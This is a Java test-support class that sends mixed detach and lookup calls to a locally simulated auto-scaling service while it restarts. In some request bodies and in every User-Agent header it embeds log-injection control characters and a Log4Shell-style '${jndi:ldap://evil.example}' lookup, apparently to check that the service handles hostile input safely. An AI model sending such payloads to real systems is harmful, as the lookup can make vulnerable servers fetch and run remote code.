package dev.essfacade.support;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.Duration;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;

import dev.esssimulator.EssSimulator;
import dev.esssimulator.SimulatedGroup;

/**
 * Calls of all kinds, distinguished by their number. New calls pause while the service
 * restarts; calls in flight do not.
 */
public final class MixedCalls implements AutoCloseable {

	private static final String REGION = "/api/v1/regions/cn-hangzhou";

	private static final String BROKEN_OFF = "broken off";

	private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

	private final EssSimulator ess;

	private final URI service;

	private final Set<String> succeeded = ConcurrentHashMap.newKeySet();

	private final Map<String, Integer> answers = new TreeMap<>();

	private final Object away = new Object();

	private boolean paused;

	public MixedCalls(EssSimulator ess, int port) {
		this.ess = ess;
		this.service = URI.create("http://127.0.0.1:" + port);
	}

	/** Pauses new calls. */
	public void pause() {
		synchronized (this.away) {
			this.paused = true;
		}
	}

	/** Resumes calls. */
	public void resume() {
		synchronized (this.away) {
			this.paused = false;
			this.away.notifyAll();
		}
	}

	/** Idempotency keys of the writes that the service reported as executed. */
	public Set<String> succeeded() {
		return this.succeeded;
	}

	/**
	 * Makes a call, whose kind depends on the last digit of the number. If this digit is
	 * 8 or 9, sends the call twice.
	 */
	public void make(int number) {
		String group = "asg-" + number;
		String detach = REGION + "/scaling-groups/" + group;
		this.ess.add(SimulatedGroup.in("cn-hangzhou").id(group).albServerGroup("sgp-1", 80, 1).loadBalancer("lb-1"));
		switch (number % 10) {
			case 0 -> send(number, get(REGION + "/scaling-activities/asa-unknown"));
			case 1 -> send(number, post(detach + "-unknown/load-balancers/detach", "{\"loadBalancers\": [\"lb-1\"]}"));
			case 2 -> send(number, post(detach + "/load-balancers/detach", "{\"loadBalancers\": [\"lb-9\"]}"));
			case 3, 4 -> send(number, post(detach + "/load-balancers/detach", """
					{"loadBalancers": ["lb-1"], "reason": "\\r\\n\\u001b[2J\\u2028${jndi:ldap://evil.example}"}"""));
			case 5, 6 -> send(number, post(detach + "/alb-server-groups/detach", """
					{"albServerGroups": [{"albServerGroupId": "sgp-1", "port": 80}]}"""));
			case 7 -> send(number, post(detach + "/alb-server-groups/detach", """
					{"albServerGroups": [{"albServerGroupId": "sgp-1", "port": 80}], "forceDetach": true}"""));
			default -> {
				send(number,
						post(detach + "/load-balancers/detach", "{\"loadBalancers\": [\"lb-1\"], \"async\": true}"));
				send(number,
						post(detach + "/load-balancers/detach", "{\"loadBalancers\": [\"lb-1\"], \"async\": true}"));
			}
		}
	}

	private HttpRequest.Builder get(String path) {
		return HttpRequest.newBuilder(this.service.resolve(path));
	}

	private HttpRequest.Builder post(String path, String body) {
		return get(path).header("Content-Type", "application/json").POST(BodyPublishers.ofString(body));
	}

	private void send(int number, HttpRequest.Builder request) {
		waitForService();
		String key = "key-" + number;
		try {
			HttpResponse<String> answer = this.http.send(request.header("Idempotency-Key", key)
				.header("X-Request-Id", "request-" + number)
				.header("User-Agent", "${jndi:ldap://evil.example}\u0085")
				.timeout(Duration.ofSeconds(60))
				.build(), BodyHandlers.ofString());
			count(String.valueOf(answer.statusCode()));
			if (answer.statusCode() < 300 && !"GET".equals(answer.request().method())) {
				this.succeeded.add(key);
			}
		}
		catch (IOException _) {
			count(BROKEN_OFF);
		}
		catch (InterruptedException ex) {
			throw new AssertionError(ex);
		}
	}

	private void waitForService() {
		synchronized (this.away) {
			while (this.paused) {
				try {
					this.away.wait();
				}
				catch (InterruptedException ex) {
					throw new AssertionError(ex);
				}
			}
		}
	}

	private void count(String answer) {
		synchronized (this.answers) {
			this.answers.merge(answer, 1, Integer::sum);
		}
	}

	/** Number of responses by status. */
	@Override
	public String toString() {
		synchronized (this.answers) {
			return this.answers.toString();
		}
	}

	@Override
	public void close() {
		this.http.close();
	}

}
